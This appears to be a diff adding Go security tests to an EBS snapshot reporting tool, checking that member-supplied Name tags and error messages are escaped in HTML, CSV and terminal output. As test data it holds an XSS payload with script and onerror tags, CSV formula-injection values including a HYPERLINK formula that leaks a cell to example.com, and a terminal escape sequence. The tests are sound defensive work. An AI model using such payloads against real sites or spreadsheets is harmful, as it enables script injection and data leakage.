@@ -2,9 +2,12 @@ package report
 
 import (
 	"bytes"
+	"encoding/csv"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/ebs-snapper/ebs-snapper/internal/inventory"
 )
 
 // TestOrgWorstFirst: the organisation view orders accounts by outcome
@@ -57,5 +60,83 @@ func TestOrgWorstFirst(t *testing.T) {
 	}
 	if !strings.Contains(html.String(), `<span class="badge error">error</span>`) || !strings.Contains(html.String(), "<strong>Fix:</strong> deploy the StackSet") {
 		t.Errorf("html lacks the refused account and its fix")
+	}
+}
+
+// TestOrgHTMLEscapesMemberData: what a member account controls (its
+// instances' Name tags, hence a volume's row; AWS's answer quoted in an
+// error) reaches the organisation page as text: html/template escapes it,
+// so a hostile tag or message adds no element to the page.
+func TestOrgHTMLEscapesMemberData(t *testing.T) {
+	const hostile = `"><script>alert(1)</script><img src=x onerror=alert(2)>`
+	inv, p := fleet(t)
+	late := inv.Instances["i-late"]
+	late.Tags = append(late.Tags, inventory.Tag{Key: "Name", Value: hostile})
+	inv.Instances["i-late"] = late
+	rep := New("222222222222", now, nil, []Region{ForRegion(inv, p, Options{Now: now})})
+	org := NewOrg(now, []OrgAccount{
+		AccountOf(rep, []string{"ou-ab12-cdef3456"}),
+		{Account: "333333333333", Outcome: "error", Error: "AccessDenied: " + hostile, Fix: "deploy the StackSet"},
+	})
+	var html bytes.Buffer
+	if err := WriteOrgHTML(&html, org); err != nil {
+		t.Fatal(err)
+	}
+	page := html.String()
+	for _, bad := range []string{"<script", "<img"} {
+		if strings.Contains(page, bad) {
+			t.Errorf("page contains %q from member data", bad)
+		}
+	}
+	if strings.Count(page, "&lt;script&gt;alert(1)&lt;/script&gt;") < 2 {
+		t.Errorf("the hostile Name tag and error are not on the page as text:\n%s", page)
+	}
+}
+
+// TestCSVNameIsNoFormula: an instance's Name tag, which a member account
+// writes, reaches the organisation CSV as text a spreadsheet does not run:
+// a leading =, +, -, @ gets a quote; an ordinary name is left alone.
+func TestCSVNameIsNoFormula(t *testing.T) {
+	for name, want := range map[string]string{
+		`=HYPERLINK("https://example.com/?"&A2,"open")`: `'=HYPERLINK("https://example.com/?"&A2,"open")`,
+		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "web-1": "web-1", "": "",
+	} {
+		inv, p := fleet(t)
+		late := inv.Instances["i-late"]
+		late.Tags = []inventory.Tag{{Key: "Name", Value: name}}
+		inv.Instances["i-late"] = late
+		rep := New("222222222222", now, nil, []Region{ForRegion(inv, p, Options{Now: now})})
+		var b bytes.Buffer
+		if err := WriteOrgCSV(&b, NewOrg(now, []OrgAccount{AccountOf(rep, nil)})); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, r := range rows {
+			if r[4] == "i-late" {
+				found = true
+				if r[5] != want {
+					t.Errorf("Name %q: instance_name %q, want %q", name, r[5], want)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("no row of i-late:\n%s", b.String())
+		}
+	}
+}
+
+// TestInstanceLabelShowsNoControlCharacter: a Name tag carrying a
+// terminal escape sequence or a tab reaches the text tables as "?".
+func TestInstanceLabelShowsNoControlCharacter(t *testing.T) {
+	for name, want := range map[string]string{
+		"web\x1b]0;owned\x07-1": "i-1 (web?]0;owned?-1)", "a\tb\nc": "i-1 (a?b?c)", "plain name": "i-1 (plain name)", "": "i-1",
+	} {
+		if got := InstanceLabel("i-1", name); got != want {
+			t.Errorf("InstanceLabel(%q) = %q, want %q", name, got, want)
+		}
 	}
 }
